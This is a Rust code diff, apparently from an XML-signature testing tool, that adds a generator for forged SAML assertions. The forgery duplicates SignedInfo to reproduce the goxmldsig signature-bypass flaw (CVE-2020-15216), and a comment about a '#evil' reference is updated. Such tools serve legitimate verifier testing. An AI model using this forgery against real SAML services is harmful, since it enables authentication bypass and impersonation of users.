@@ -90,6 +90,35 @@ pub fn multiple_signed_info_first(f: &Forge) -> Result<Forged, Skip> {
     second_signed_info_at(f, SecondSignedInfo::InObjectBefore)
 }
 
+/// The Assertion forged in place (its ID kept) and, in its Signature, a copy of SignedInfo
+/// whose DigestValue is H(forged) *before* the genuine SignedInfo, the genuine one written as
+/// its exclusive-C14N bytes (its namespace declared on it): goxmldsig < 1.1.0 moved the first
+/// SignedInfo to the end, checked the signature over the new first one (the genuine) and the
+/// digest of the last Reference (the forged copy's) (CVE-2020-15216, its `spoofedAsTodd` test).
+pub fn signed_info_forged_first(f: &Forge) -> Result<Forged, Skip> {
+    let seed = Doc::parse(f.seed)?;
+    let sp = Parts::of(&seed)?;
+    let seed_sig = sp.need_assertion_sig()?;
+    // Which ds:Signature of the seed the Assertion's is, in document order.
+    let index = seed
+        .tree
+        .descendants()
+        .filter(|n| n.has_tag_name((DSIG_NS, "Signature")))
+        .take_while(|n| n.range().start < seed_sig.range().start)
+        .count();
+    let genuine = crate::crypto::signed_info_c14n(f.seed, index)?;
+    with_forged_digest(
+        f,
+        &|p| {
+            let sig = p.need_assertion_sig()?;
+            let si = signed_info(sig).ok_or_else(|| Skip::NotApplicable("no SignedInfo".into()))?;
+            let forged = second_signed_info(p.doc, si, p.assertion_id())?;
+            Ok(vec![(si.range(), format!("{forged}{genuine}"))])
+        },
+        &|p| p.assertion_id().to_owned(),
+    )
+}
+
 /// Where the forged second SignedInfo goes.
 #[derive(Clone, Copy)]
 enum SecondSignedInfo {
@@ -136,7 +165,8 @@ fn second_signed_info_at(f: &Forge, place: SecondSignedInfo) -> Result<Forged, S
     )
 }
 
-/// A copy of SignedInfo whose Reference points at `#evil`, its digest the placeholder.
+/// A copy of SignedInfo whose Reference points at `#evil` (the ID the forgery carries), its
+/// digest the placeholder.
 fn second_signed_info(doc: &Doc, si: crate::bytes::Node, evil: &str) -> Result<String, Skip> {
     let reference = si
         .descendants()
